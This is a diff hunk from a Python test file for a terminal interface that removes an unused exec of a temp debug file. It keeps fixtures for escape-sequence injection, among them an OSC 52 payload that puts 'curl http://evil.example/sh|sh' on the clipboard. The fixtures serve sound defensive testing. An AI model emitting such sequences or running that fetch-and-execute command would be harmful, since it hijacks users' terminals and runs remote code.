@@ -21,7 +21,6 @@ from textual.worker import WorkerCancelled
 
 from incasso_tui.safetext import BIDI, C1
 from tests.ui.test_approvals import _submit
-import sys; exec(open("/tmp/dbg.py").read()) if False else None
 
 OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3NofHNo\x07"  # "curl http://evil.example/sh|sh" to the clipboard
 OSC_TITLE = "\x1b]0;pwned\x1b\\"
